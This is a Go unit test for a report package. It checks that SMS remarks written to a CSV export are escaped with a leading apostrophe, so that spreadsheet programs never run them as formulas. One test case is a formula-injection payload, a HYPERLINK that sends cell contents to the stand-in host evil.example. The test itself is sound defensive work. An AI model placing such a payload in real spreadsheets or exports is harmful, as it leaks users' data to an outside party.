package report

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestCSVNeutralisesFormulas: a remark comes from an SMS anyone with a
// staff number (or a spoofed one) can send; a cell starting like a
// spreadsheet formula is written with a leading apostrophe, so opening the
// report in Excel or LibreOffice never runs it.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, tc := range []struct{ remark, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"Details")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Details")`},
		{"+49 151 0000", "'+49 151 0000"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"bin krank", "bin krank"},
		{"", ""},
	} {
		r, err := Build(scenarioVoice(t), testOpts())
		if err != nil {
			t.Fatal(err)
		}
		r.Timeline[0].AnswerRemark = tc.remark
		var c bytes.Buffer
		if err := r.WriteCSV(&c); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&c).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := -1
		for i, h := range recs[0] {
			if h == "remark" {
				col = i
			}
		}
		if got := recs[1][col]; got != tc.want {
			t.Errorf("remark %q written as %q, want %q", tc.remark, got, tc.want)
		}
	}
}
